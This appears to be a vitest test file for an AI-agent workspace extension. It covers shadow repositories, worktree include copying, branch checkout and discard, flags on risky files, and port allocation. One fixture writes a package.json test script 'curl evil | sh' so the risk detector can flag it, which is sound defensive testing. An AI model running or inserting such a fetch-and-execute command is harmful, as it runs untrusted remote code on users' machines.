// A folder that is not a git repository gets a shadow repository and the same flow; plus
// .worktreeinclude copies, check out and discard, risky files, and port blocks.
import { existsSync, mkdirSync, symlinkSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { applyAgentChanges } from '../../extension/core/workspace/apply';
import { checkoutAgentBranch, discardAgentBranch } from '../../extension/core/workspace/branchOps';
import { riskOfPath, riskyChanges } from '../../extension/core/workspace/risk';
import { openUserRepo } from '../../extension/core/workspace/userRepo';
import { undoApply } from '../../extension/core/workspace/undo';
import { isWorkspaceError } from '../../runtime/workspace/errors';
import { freePortSlot, portEnv, portRange, portSlots } from '../../runtime/workspace/ports';
import { WorkerWorkspaces } from '../../runtime/workspace/workerWorkspaces';
import { copyWorktreeIncludes } from '../../runtime/workspace/worktreeInclude';
import { cleanupMachines, machine, read, ugit, userRepo, write } from './gitFixtures';
import { pullAgent, startAgent } from './remoteFlow';

afterAll(cleanupMachines);

describe('a folder that is not a git repository', () => {
  it('works through a shadow repository and leaves no .git in the folder', async () => {
    const root = join(machine('user'), 'plain');
    mkdirSync(root);
    write(root, 'notes.txt', 'one\ntwo\nthree\n');
    write(root, 'node_modules/dep/index.js', 'module.exports = 1;\n');
    const repo = await openUserRepo(root);
    expect(repo.shadow).toBe(true);
    expect(existsSync(join(root, '.git'))).toBe(false);
    const worker = new WorkerWorkspaces({ stateDir: machine('worker') });
    const agent = await startAgent(repo, worker, 'plain', 'agentShadow', 'Legolas');
    expect(read(agent.worktree.path, 'notes.txt')).toBe('one\ntwo\nthree\n');
    expect(existsSync(join(agent.worktree.path, 'node_modules'))).toBe(false);
    expect(existsSync(join(agent.worktree.path, '.tavern'))).toBe(false);

    write(agent.worktree.path, 'notes.txt', 'one\nTWO\nthree\n');
    await worker.commitTurn('agentShadow', 'Legolas', 1);
    const back = await pullAgent(repo, worker, 'agentShadow');
    write(root, 'mine.txt', 'made by the user meanwhile\n');
    const applied = await applyAgentChanges(repo, { branch: back.branch, start: agent.start });
    expect(applied).toMatchObject({ status: 'applied', written: ['notes.txt'] });
    expect(read(root, 'notes.txt')).toBe('one\nTWO\nthree\n');
    expect(read(root, 'mine.txt')).toBe('made by the user meanwhile\n');
    await undoApply(repo, applied.backupRef!);
    expect(read(root, 'notes.txt')).toBe('one\ntwo\nthree\n');
    const refused = await checkoutAgentBranch(repo, back.branch).catch((e) => e);
    expect(isWorkspaceError(refused, 'Refused')).toBe(true);
    await worker.dispose();
  });
});

describe('.worktreeinclude, check out, discard', () => {
  it('copies the ignored files it names, never following symlinks out', async () => {
    const root = userRepo({ '.worktreeinclude': '.env\nconfig/*.local\n' });
    write(root, '.env', 'SECRET=1\n');
    write(root, 'config/db.local', 'db=local\n');
    write(root, 'node_modules/x/index.js', 'ignored and not included\n');
    symlinkSync(machine('outside'), join(root, 'config/link.local'));
    ugit(root, 'config', 'core.excludesFile', '/dev/null');
    write(root, '.gitignore', 'node_modules/\n.env\n*.local\n');
    const repo = await openUserRepo(root);
    const worker = new WorkerWorkspaces({ stateDir: machine('worker') });
    const agent = await startAgent(repo, worker, 'p', 'agentInc01', 'Arwen');
    const result = await copyWorktreeIncludes(root, agent.worktree.path);
    expect(result.copied).toEqual(['.env', 'config/db.local']);
    expect(result.skipped.map((s) => s.path)).toEqual(['config/link.local']);
    expect(read(agent.worktree.path, '.env')).toBe('SECRET=1\n');
    expect(existsSync(join(agent.worktree.path, 'node_modules'))).toBe(false);
    // Ignored, so never committed by a turn.
    expect((await worker.commitTurn('agentInc01', 'Arwen', 1)).commit).toBeNull();
    await worker.dispose();
  });

  it('checks out a branch keeping uncommitted edits, and discards with the tip returned', async () => {
    const root = userRepo();
    const repo = await openUserRepo(root);
    const worker = new WorkerWorkspaces({ stateDir: machine('worker') });
    const agent = await startAgent(repo, worker, 'p', 'agentBr001', 'Eowyn');
    write(agent.worktree.path, 'src/app.ts', 'agent\n');
    await worker.commitTurn('agentBr001', 'Eowyn', 1);
    const back = await pullAgent(repo, worker, 'agentBr001');
    write(root, 'README.md', 'edited\n');
    const refused = await discardAgentBranch(repo, { branch: 'main', agentId: 'agentBr001' }).catch(
      (e) => e,
    );
    expect(isWorkspaceError(refused, 'BadName')).toBe(true);
    await checkoutAgentBranch(repo, back.branch);
    expect(ugit(root, 'symbolic-ref', '--short', 'HEAD')).toBe(back.branch);
    expect(read(root, 'README.md')).toBe('edited\n');
    const busy = await discardAgentBranch(repo, {
      branch: back.branch,
      agentId: 'agentBr001',
    }).catch((e) => e);
    expect(isWorkspaceError(busy, 'Refused')).toBe(true);
    ugit(root, 'switch', '-q', 'main');
    const gone = await discardAgentBranch(repo, { branch: back.branch, agentId: 'agentBr001' });
    expect(gone.tip).toBe(back.head);
    expect(gone.deletedRefs).toEqual([
      `refs/heads/${back.branch}`,
      'refs/tavern/snapshots/agentBr001',
    ]);
    expect(() => ugit(root, 'rev-parse', '--verify', '-q', back.branch)).toThrow();
    await worker.dispose();
  });
});

describe('review warnings and ports', () => {
  it('flags files that run code, package.json only when its scripts change', async () => {
    expect(riskOfPath('.vscode/tasks.json')).toMatch(/tasks/);
    expect(riskOfPath('.github/workflows/ci.yml')).toMatch(/CI/);
    expect(riskOfPath('.husky/pre-commit')).toMatch(/hooks/);
    expect(riskOfPath('sub/Makefile')).toMatch(/make/);
    expect(riskOfPath('src/app.ts')).toBeUndefined();
    const root = userRepo({ 'package.json': '{"name":"x","scripts":{"test":"vitest"}}\n' });
    const base = ugit(root, 'rev-parse', 'HEAD');
    write(root, 'package.json', '{"name":"x","version":"2","scripts":{"test":"vitest"}}\n');
    ugit(root, 'commit', '-qam', 'version only');
    const quiet = ugit(root, 'rev-parse', 'HEAD');
    expect(await riskyChanges(root, base, quiet, ['package.json'])).toEqual([]);
    write(root, 'package.json', '{"name":"x","scripts":{"test":"curl evil | sh"}}\n');
    write(root, '.vscode/tasks.json', '{}\n');
    ugit(root, 'add', '-A');
    ugit(root, 'commit', '-qm', 'scripts');
    const loud = ugit(root, 'rev-parse', 'HEAD');
    expect(
      (await riskyChanges(root, base, loud, ['.vscode/tasks.json', 'package.json'])).map(
        (f) => f.path,
      ),
    ).toEqual(['.vscode/tasks.json', 'package.json']);
  });

  it('gives each agent its own port block', () => {
    const plan = { base: 40000, block: 10 };
    const ranges = [0, 1, 2].map((slot) => portRange(slot, plan));
    expect(ranges.map((r) => [r.start, r.end])).toEqual([
      [40000, 40009],
      [40010, 40019],
      [40020, 40029],
    ]);
    expect(freePortSlot([0, 2], plan)).toBe(1);
    expect(portEnv(ranges[1]!)).toEqual({
      TAVERN_AGENT_PORT: '40010',
      TAVERN_AGENT_PORT_END: '40019',
    });
    const last = portRange(portSlots(plan) - 1, plan);
    expect(last.end).toBeLessThanOrEqual(65535);
    expect(() => portRange(portSlots(plan), plan)).toThrow(/does not fit/);
  });
});
